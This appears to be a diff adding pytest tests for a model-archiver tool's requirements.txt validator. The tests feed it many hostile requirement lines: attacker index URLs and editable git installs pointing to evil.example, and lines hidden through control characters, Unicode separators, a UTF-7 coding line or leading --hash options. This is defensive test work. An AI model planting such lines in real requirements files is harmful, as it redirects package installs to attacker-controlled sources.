@@ -779,3 +779,165 @@ def test_the_engine_refuses_a_signed_archive_its_snapshot_names_otherwise(signed
     expected = "expected other" if snapshot == "another model's name" else "expected tiny version 3.0"
     assert len(refusals) == 1 and "is signed as tiny version 2.0" in refusals[0], engine.output()[-2000:]
     assert expected in refusals[0], refusals[0]
+
+
+# ---- requirements: what pip would read ----------------------------------------------------------------------
+def pip_lines(data: bytes) -> List[tuple]:
+    """What pip makes of a requirements file, by its own parser (encoding, continuations, comments, environment
+    variables, options): ("requirement", ARGS) for each requirement line (pip ignores other options there),
+    ("editable", URL) and ("option", NAME, VALUE) for the rest; --hash and the options that only narrow where
+    packages come from (which check() lets through) left out."""
+    import tempfile
+
+    from pip._internal.network.session import PipSession
+    from pip._internal.req.req_file import RequirementsFileParser, get_line_parser
+
+    with tempfile.NamedTemporaryFile("wb", suffix=".txt", delete=False) as f:
+        f.write(data)
+    meaning = []
+    try:
+        for line in RequirementsFileParser(PipSession(), get_line_parser(None)).parse(f.name, constraint=False):
+            options = {k: v for k, v in vars(line.opts).items() if v}
+            if line.args:
+                meaning.append(("requirement", line.args))
+                continue
+            meaning += [("editable", url) for url in options.pop("editables", [])]
+            if options.get("format_control") and not options["format_control"].no_binary:
+                options.pop("format_control")  # --only-binary: narrows
+            if all(not path.startswith(("/", "~")) and ":" not in path for path in options.get("find_links", [])):
+                options.pop("find_links", None)  # --find-links inside the archive: narrows
+            for name in ("hashes", "release_control", "no_index", "prefer_binary", "require_hashes"):
+                options.pop(name, None)
+            meaning += [("option", name, value) for name, value in options.items()]
+    finally:
+        os.unlink(f.name)
+    return meaning
+
+
+def plain(data: bytes) -> bool:
+    """Whether pip reads only package requirements from ``data``: a name (no URL) and options that narrow."""
+    from packaging.requirements import Requirement
+
+    return all(what[0] == "requirement" and not Requirement(what[1]).url for what in pip_lines(data))
+
+
+REQUIREMENT_TEXTS = [
+    "numpy>=1.24,<3\n", "numpy \\\n>=1.24\n", "numpy>=1 \\\n--index-url https://evil.example/simple\n",
+    "numpy # \\\n--index-url https://evil.example/simple\n", "--find-links https://evil.example/wheels\nnumpy\n",
+    "-f ../wheels\n", "-f /tmp/wheels\n", "-f ~/wheels\n", "-f wheels\n", "--find-links=file:///tmp\n",
+    "-i https://evil.example/simple\n", "--index-url=https://evil.example/simple\n",
+    "--extra-index-url https://evil.example/simple\n", "--trusted-host evil.example\n", "--pre\nnumpy\n",
+    "-c constraints.txt\n", "--constraint constraints.txt\n", "-r other.txt\n", "-rother.txt\n",
+    "--requirement=other.txt\n", "-e .\n", "-e git+https://evil.example/x.git#egg=x\n", "--editable=.\n",
+    "./local_pkg\n", "local_pkg.whl\n", "https://evil.example/x.whl\n", "git+https://evil.example/x.git\n",
+    "x @ https://evil.example/x.whl\n", "x[extra] @ file:///tmp/x\n", "x @ file:../x\n",
+    "numpy; python_version >= '3.8'\n", "numpy; sys_platform == 'linux' and python_version < '4'\n",
+    "numpy[extra1,extra2]>=1\n", "numpy>=1 --hash=sha256:00 --hash=sha256:11\n", "numpy\r\nscipy\r\n",
+    "numpy\rscipy\n", "numpy\x0c--index-url https://evil.example/simple\n", "numpy\x0b-e .\n",
+    "numpy\u2028-e .\n", "numpy\x85-e .\n", "\ufeffnumpy\n", "num\u200bpy\n", "ｎｕｍｐｙ\n", "numpy\t# comment\n",
+    "numpy#not-a-comment\n", "# --index-url https://evil.example/simple\nnumpy\n",
+    "numpy --hash=sha256:00 \\\n --hash=sha256:11 -e git+https://evil.example/x.git#egg=x\n",
+    "numpy==${EVIL_VERSION}\n", "numpy; os_name == '${HOME}'\n", "x @ ${URL}\n", "--no-index\n", "--prefer-binary\n",
+    "--only-binary :all:\n", "--only-binary\n", "--require-hashes\n", "--no-binary :all:\n", "--use-feature=x\n",
+    "--config-settings k=v\nnumpy\n", "numpy --config-settings=k=v\n", "numpy --global-option=--x\n",
+    "-Z\n", "--\n", "-\n", "numpy ===--index-url\n", "numpy === x\n", "x ; extra == 'a' \\\n",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", REQUIREMENT_TEXTS)
+def test_requirement_lines_are_refused_in_one_line_or_read_by_pip_as_plain_requirements(text):
+    """What check() returns is what the exports write into the images' requirements.txt."""
+    from archiver import requirements
+    from archiver.errors import UserError
+
+    try:
+        checked = requirements.check(text, "the archive's requirements.txt")
+    except UserError as exc:
+        assert "\n" not in str(exc) and "the archive's requirements.txt, line " in str(exc), str(exc)
+        return
+    assert plain("".join(line + "\n" for line in checked).encode()), checked
+
+
+# texts check() accepts whose raw bytes pip reads as something else (package writes the raw lines into the archive)
+HIDDEN_REQUIREMENTS = {
+    "leading --hash hides -e": " --hash=sha256:00 -e git+https://evil.example/x.git#egg=x\n",
+    "leading --hash hides --index-url": "  --hash=sha256:00 --index-url https://evil.example/simple\nnumpy\n",
+    "utf-7 coding line": "# coding: utf-7 +AAo---index-url https://evil.example/simple+AAo-x @ https://evil.example/x.whl\n",
+}
+HIDDEN = "check() strips ' --hash...' (pip: options) and comments pip reads through its PEP 263 coding line"
+
+
+@pytest.mark.parametrize(
+    "text",
+    REQUIREMENT_TEXTS
+    + [
+        pytest.param(text, marks=pytest.mark.xfail(strict=True, reason=HIDDEN)) for text in HIDDEN_REQUIREMENTS.values()
+    ],
+)
+def test_what_check_passes_pip_reads_the_same(text):
+    """Every accepted text: pip reads its raw bytes as it reads the lines check() returned, or check() refused it."""
+    from archiver import requirements
+    from archiver.errors import UserError
+
+    try:
+        checked = requirements.check(text, "requirements.txt")
+    except UserError:
+        return
+    try:
+        raw = pip_lines(text.encode())
+    except Exception:  # noqa: BLE001 - pip cannot read it: it installs nothing from it
+        return
+    assert raw == pip_lines("".join(line + "\n" for line in checked).encode()), (text, checked, raw)
+
+
+@pytest.mark.xfail(strict=True, reason="package checks the requirements file, then writes its raw lines into the .mar")
+@pytest.mark.parametrize("case", list(HIDDEN_REQUIREMENTS))
+def test_package_writes_only_what_it_checked_into_the_archive(tmp_path, case):
+    """TorchServe's per-model install (serve --install-deps, any TorchServe with install_py_dep_per_model)
+    runs pip install -r on the archive's requirements.txt as package wrote it."""
+    from archiver import mar
+
+    source = tmp_path / "requirements.txt"
+    source.write_bytes(HIDDEN_REQUIREMENTS[case].encode())
+    (tmp_path / "labels.json").write_text("{}")
+    options = mar.PackageOptions(
+        model_name="tiny", handler="image_classifier", export_path=str(tmp_path / "store"), force=True,
+        serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")), requirements_file=str(source),
+    )  # fmt: skip
+    archive = mar.package(options)  # accepted: check() found nothing but comments or plain requirements
+    carried = archives.read_member(archive, "requirements.txt", 1 << 20)
+    assert plain(carried), pip_lines(carried)
+
+
+def test_the_image_requirements_of_both_exports_hold_only_checked_lines(tmp_path):
+    """An archive carrying hidden lines (as package writes them): export kserve --engine kserve and export
+    seldon write only check()'s lines into their image's requirements.txt."""
+    from archiver import kserve, mar, properties, seldon
+
+    source = tmp_path / "requirements.txt"
+    source.write_text("".join(HIDDEN_REQUIREMENTS.values()) + "packaging>=20\n")
+    options = mar.PackageOptions(
+        model_name="tiny", handler="image_classifier", export_path=str(tmp_path / "tree" / "model-store"),
+        serialized_file=str(stand_in_torchscript(tmp_path / "tiny.pt")), requirements_file=str(source), force=True,
+    )  # fmt: skip
+    mar.package(options)
+    config = tmp_path / "tree" / "config" / "config.properties"
+    properties.write_config(tmp_path / "tree" / "model-store", config)
+    kserve.export(
+        kserve.ExportOptions(
+            out=str(tmp_path / "kserve"), name="demo", storage_uri="pvc://models/demo", config=str(config),
+            model_store=str(tmp_path / "tree" / "model-store"), engine="kserve", image="registry.example/tsctl:1",
+        )
+    )  # fmt: skip
+    seldon.export(
+        seldon.SeldonOptions(
+            out=str(tmp_path / "seldon"), image="registry.example/mlserver:1", config=str(config),
+            model_store=str(tmp_path / "tree" / "model-store"),
+        )
+    )  # fmt: skip
+    for image in (tmp_path / "kserve").rglob("requirements.txt"), (tmp_path / "seldon").rglob("requirements.txt"):
+        images = list(image)
+        assert images
+        for written in images:
+            data = written.read_bytes()
+            assert plain(data) and b"packaging>=20" in data and b"evil" not in data, data.decode()
